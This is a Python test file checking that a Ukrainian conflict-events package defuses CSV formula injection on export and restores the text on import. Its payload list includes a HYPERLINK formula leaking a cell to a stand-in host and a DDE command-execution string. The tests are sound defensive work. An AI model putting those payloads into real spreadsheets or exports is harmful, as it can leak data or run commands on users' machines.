"""CSV formula injection (finding 6): defused when written, restored when read."""

import csv

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from geo_ukraine import read_events, write_acled, write_events
from geo_ukraine.events import event_frame
from geo_ukraine.events.io.formulas import FORMULA_TRIGGERS, neutralise_formula, restore_formula
from tests.events.io.support import full_row

PAYLOADS = ['=HYPERLINK("http://x.test/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1",
            "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize(
    ("cell", "written"),
    [("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(1,1)", "'@SUM(1,1)"),
     ("\tx", "'\tx"), ("\rx", "'\rx"), ("-37.5", "-37.5"), ("+3", "+3"), ("-1e5", "-1e5"),
     ("'=x", "''=x"), ("''", "'''"), ("'Twas", "'Twas"), ("'", "'"), ("", ""),
     ("plain", "plain"), (-5, -5), (37.5, 37.5), (None, None)],
)
def test_cells_are_defused_and_restored(cell, written):
    assert neutralise_formula(cell) == written
    if isinstance(cell, str):
        assert restore_formula(neutralise_formula(cell)) == cell


@given(st.text(max_size=30))
def test_restore_undoes_neutralise(text):
    assert restore_formula(neutralise_formula(text)) == text
    first = neutralise_formula(text)[:1]
    assert first not in FORMULA_TRIGGERS or neutralise_formula(text) == text  # a plain number


def _events(**values):
    rows = [full_row(n, None, resolution="unresolved", notes=p, actor=p, location=p,
                     claimed_by=p, **values) for n, p in enumerate(PAYLOADS)]
    return event_frame(rows)


def _cells(path):
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]



@pytest.mark.parametrize("writer", ["csv", "acled"])
def test_no_written_text_cell_starts_a_formula(tmp_path, writer):
    events = _events()
    path = tmp_path / "out.csv"
    if writer == "csv":
        write_events(events, path)
    else:
        write_acled(events, path)
    for cell in _cells(path):
        number = cell.lstrip("+-").replace(".", "", 1).isdigit()
        assert not cell or cell[0] not in FORMULA_TRIGGERS or number, cell


def test_csv_round_trip_restores_the_text(tmp_path):
    events = _events()
    back = read_events(write_events(events, tmp_path / "out.csv"))
    for column in ("notes", "actor", "location", "claimed_by"):
        assert list(back[column]) == PAYLOADS, column


def test_acled_round_trip_restores_the_text(tmp_path):
    events = _events()
    back = read_events(write_acled(events, tmp_path / "out.csv"), driver="acled")
    assert list(back.notes) == PAYLOADS
    assert list(back.actor) == PAYLOADS
    assert list(back.claimed_by) == PAYLOADS


def test_negative_numbers_stay_numbers(tmp_path):
    from shapely.geometry import Point

    events = event_frame([full_row(0, Point(-73.5, -33.25), admin1=None, admin2=None,
                                   country="CL", notes="-12.5")])
    path = write_events(events, tmp_path / "out.csv")
    row = next(csv.DictReader(path.read_text(encoding="utf-8").splitlines()))
    assert (row["lon"], row["lat"], row["notes"]) == ("-73.5", "-33.25", "-12.5")
    acled_path = write_acled(events, tmp_path / "a.csv")
    acled = next(csv.DictReader(acled_path.read_text(encoding="utf-8").splitlines()))
    assert (acled["longitude"], acled["latitude"]) == ("-73.5000", "-33.2500")


def test_the_flag_turns_it_off(tmp_path):
    events = _events()
    path = write_events(events, tmp_path / "raw.csv", neutralise_formulas=False)
    assert "=cmd|' /C calc'!A0" in _cells(path)
    acled = write_acled(events, tmp_path / "raw_acled.csv", neutralise_formulas=False)
    assert "@SUM(1,1)" in _cells(acled)


@settings(max_examples=40, deadline=None)
@given(st.text(min_size=1, max_size=20))
def test_any_note_survives_a_csv_round_trip(tmp_path_factory, note):
    path = tmp_path_factory.mktemp("csv") / "e.csv"
    events = event_frame([full_row(0, None, resolution="unresolved", notes=note)])
    back = read_events(write_events(events, path))
    assert back.notes.iloc[0] == note
